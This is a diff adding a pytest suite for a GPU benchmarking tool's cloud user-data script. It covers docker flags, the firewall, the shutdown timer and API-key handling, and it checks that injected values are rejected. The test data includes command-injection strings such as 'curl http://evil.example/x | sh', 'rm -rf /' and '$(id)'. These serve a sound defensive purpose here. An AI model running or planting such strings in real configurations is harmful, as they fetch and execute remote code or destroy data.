@@ -1,0 +1,119 @@
+"""User-data per GPU family and stack: the flags that matter, and hostile plan values that cannot run."""
+from __future__ import annotations
+
+import copy
+import shlex
+import subprocess
+
+import pytest
+
+from bakeoff.plan import PlanError, load_plan, plan_from_dict
+from bakeoff.serving import userdata
+
+KEY = "bk-" + "0123456789abcdef" * 2 + "01234567"
+
+
+def target(provider="aws", **changes):
+    raw = load_plan("mi355x-vs-b200-sandbox").model_dump(mode="json")
+    t = copy.deepcopy(next(x for x in raw["targets"] if x["provider"] == provider))
+    t.update(changes)
+    raw["targets"] = [t]
+    return plan_from_dict(raw).targets[0]
+
+
+def docker_words(script: str) -> list[str]:
+    line = next(x for x in script.splitlines() if x.startswith("docker run "))
+    return shlex.split(line)
+
+
+def flag(words: list[str], name: str) -> str:
+    assert words.count(name) == 1, f"{name} appears {words.count(name)} times"
+    return words[words.index(name) + 1]
+
+
+def render(t, cidr="203.0.113.7/32"):
+    return userdata.render(t, api_key=KEY, shutdown_after_s=2 * 3600, ingress_cidr=cidr)
+
+
+def test_vllm_on_mi355x_uses_rocm_image_devices_and_aiter():
+    s = render(target("vultr"))
+    w = docker_words(s)
+    assert "vllm/vllm-openai-rocm:v0.22.0" in w and w[w.index("--entrypoint") + 1] == "vllm"
+    assert {"/dev/kfd", "/dev/dri"} <= set(w) and "seccomp=unconfined" in w and "--gpus" not in w
+    assert flag(w, "--tensor-parallel-size") == "8" and flag(w, "--quantization") == "fp8"
+    assert flag(w, "--kv-cache-dtype") == "fp8" and flag(w, "--attention-backend") == "ROCM_AITER_UNIFIED_ATTN"
+    assert flag(w, "--block-size") == "64" and flag(w, "--port") == "8000"
+    assert "VLLM_ROCM_USE_AITER=1" in s and "HSA_NO_SCRATCH_RECLAIM=1" in s
+    assert w[-2:] == ["--api-key", "$BAKEOFF_API_KEY"]        # the key is a variable, never on the command line
+
+
+def test_vllm_on_b200_uses_cuda_image_and_one_kv_flag():
+    w = docker_words(render(target("aws")))
+    assert "vllm/vllm-openai:v0.25.0" in w and flag(w, "--gpus") == "all" and "/dev/kfd" not in w
+    assert flag(w, "--kv-cache-dtype") == "fp8"          # catalog's B200 recipe repeats it: kept once
+
+
+def test_sglang_on_mi355x_and_b200():
+    w = docker_words(render(target("vultr", stack="sglang", kv_cache_dtype="fp8")))
+    assert "lmsysorg/sglang:v0.5.12-rocm700-mi35x" in w and w[w.index("--entrypoint") + 1] == "python3"
+    assert w[w.index("python3") + 2:w.index("python3") + 4] == ["-m", "sglang.launch_server"]
+    assert flag(w, "--tp-size") == "8" and flag(w, "--kv-cache-dtype") == "fp8_e4m3"
+    assert flag(w, "--attention-backend") == "aiter" and "--enable-metrics" in w
+    w = docker_words(render(target("aws", stack="sglang", quantization="fp4", kv_cache_dtype="auto")))
+    assert "lmsysorg/sglang:v0.5.12-cu130" in w and flag(w, "--quantization") == "modelopt_fp4"
+    assert flag(w, "--kv-cache-dtype") == "auto"
+
+
+def test_image_override_tensor_parallel_and_plan_args_win():
+    t = target("aws", image="registry.example.com:5000/team/vllm:nightly-2026", tensor_parallel=4,
+               engine_args=["--max-num-seqs", "512"])
+    w = docker_words(render(t))
+    assert "registry.example.com:5000/team/vllm:nightly-2026" in w and flag(w, "--tensor-parallel-size") == "4"
+    assert flag(w, "--max-num-seqs") == "512"
+
+
+def test_kill_switch_firewall_and_valid_bash():
+    s = render(target("aws"))
+    assert "shutdown -h +121 " in s
+    assert "iptables -I INPUT -p tcp --dport 8000 -s 203.0.113.7/32 -j ACCEPT" in s
+    assert "iptables -I INPUT -p tcp --dport 8000 -j DROP" in s
+    subprocess.run(["bash", "-n"], input=s, text=True, check=True)
+    assert userdata.shutdown_minutes(s) == 121 and userdata.api_key_from_userdata(s) == KEY
+    assert userdata.target_from_userdata(s)["target"]["name"] == "b200-vllm"
+    # the key appears once: in the heredoc of a root-only file, never in an echo or a command line
+    assert s.count(KEY) == 1
+
+
+@pytest.mark.parametrize("field,value", [
+    ("image", "vllm/vllm-openai:v1; curl http://evil.example/x | sh"),
+    ("image", "vllm/vllm-openai:v1\ncurl evil | sh"),
+    ("image", "vllm/vllm-openai:'v1'"),
+    ("engine_args", ["--max-model-len", "8192\ncurl evil | sh"]),
+    ("env", {"X; curl evil | sh": "1"}),
+    ("env", {"OK": "1\nrm -rf /"}),
+])
+def test_hostile_values_are_rejected_naming_the_field(field, value):
+    with pytest.raises(PlanError) as e:
+        target("aws", **{field: value})
+    assert f"targets[0].{field}" in str(e.value)
+
+
+def test_hostile_provider_options_are_rejected():
+    for opts in ({"ingress_cidr": "0.0.0.0/0; curl evil | sh"}, {"regions": ["us-east-1; reboot"]},
+                 {"os_image": "ubuntu'$(id)"}, {"ami": "ami-1234; sh"}, {"inject_fault": "everything"}):
+        raw = load_plan("mi355x-vs-b200-sandbox").model_dump(mode="json")
+        raw["targets"][1]["provider_options"].update(opts)
+        with pytest.raises(PlanError, match=r"targets\[1\]\.provider_options"):
+            plan_from_dict(raw)
+
+
+def test_hostile_engine_arg_reaches_the_server_as_one_word(tmp_path):
+    """An argument carrying '; curl … | sh' and quotes is quoted: docker receives it verbatim, nothing runs."""
+    marker = tmp_path / "pwned"
+    evil = f"--served-model-name=x'; touch {marker}; echo \"$(touch {marker})\" | sh #"
+    s = render(target("aws", engine_args=[evil]))
+    line = next(x for x in s.splitlines() if x.startswith("docker run "))
+    out = subprocess.run(["bash", "-c", 'docker() { printf "%s\\n" "$@"; }\nBAKEOFF_API_KEY=k\n' + line],
+                         capture_output=True, text=True, check=True).stdout.splitlines()
+    assert evil in out and out[-1] == "k"
+    assert not marker.exists()
